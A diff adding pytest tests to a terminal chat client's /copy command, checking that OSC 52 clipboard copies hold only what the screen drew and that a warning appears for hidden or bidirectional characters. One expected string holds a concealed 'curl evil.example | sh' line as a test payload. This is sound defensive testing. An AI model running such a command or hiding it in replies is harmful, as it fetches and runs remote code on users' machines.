@@ -380,6 +380,46 @@ def test_copy_never_passes_a_replys_own_escape_sequences(chat):
     assert s.wait() == 0
 
 
+def osc52_payloads(raw):
+    import base64
+    return [base64.b64decode(found).decode() for found in re.findall(r"\x1b\]52;c;([A-Za-z0-9+/=]*)\x07", raw)]
+
+
+def test_copy_puts_on_the_clipboard_what_the_screen_drew_and_warns_when_the_reply_held_more(chat):
+    s = chat("--model", "hidden")
+    s.mark()
+    s.line("hi")
+    s.expect(r"you ›")
+    # What the terminal shows, played on an emulator (characters of no width draw nothing).
+    drawn = s.screen.text()
+    s.mark()
+    s.line("/copy")
+    s.expect(r"copied the last reply")
+    s.expect(r"gemvault: warning: the reply holds control, invisible or bidirectional characters: they were copied as the screen shows them")
+    payloads = osc52_payloads(s.raw())
+    assert len(payloads) == 1, s.raw()
+    copied = payloads[0]
+    # Nothing the screen did not draw: no escape, zero-width space or override, each as its escape.
+    assert not any(hidden in copied for hidden in ("\x1b", "\u200b", "\u202e")), repr(copied)
+    assert copied == "run: echo safe^[[8m; curl evil.example | sh^[[0m then ls \\u{200b}-la \\u{202e}right-to-left\n", repr(copied)
+    assert copied.rstrip("\n") in drawn, (copied, drawn)
+    s.mark()
+    s.line("/exit")
+    assert s.wait() == 0
+
+
+def test_copy_of_a_plain_reply_does_not_warn(chat):
+    s = chat("--model", "code")
+    s.line("show me")
+    s.expect(r"you ›")
+    s.mark()
+    s.line("/copy code 1")
+    s.expect(r"copied code block 1 of 2")
+    s.line("/exit")
+    assert s.wait() == 0
+    assert "warning" not in s.text()
+
+
 @pytest.mark.parametrize("variables, reason", [({"TERM": "dumb"}, "TERM is dumb"),
                                                ({"TERM_PROGRAM": "Apple_Terminal"}, "Terminal.app ignores clipboard escapes")])
 def test_copy_refuses_politely_where_the_terminal_has_no_clipboard_escape(chat, variables, reason):
